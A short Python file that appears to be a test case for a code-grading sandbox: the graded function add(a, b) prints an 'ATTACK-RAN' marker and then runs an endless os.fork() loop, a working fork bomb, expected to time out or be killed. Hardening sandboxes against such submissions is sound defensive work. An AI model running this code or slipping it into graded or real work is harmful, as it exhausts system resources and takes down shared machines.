"""A fork bomb inside the graded function.
base: stub
expect: timed out|crash|killed|Resource temporarily unavailable
"""
import os


def add(a, b):
    print("ATTACK-RAN", "fork_bomb", sep=":", flush=True)  # the proof that it ran, before anything can silence it
    while True:
        try:
            os.fork()
        except OSError:
            pass
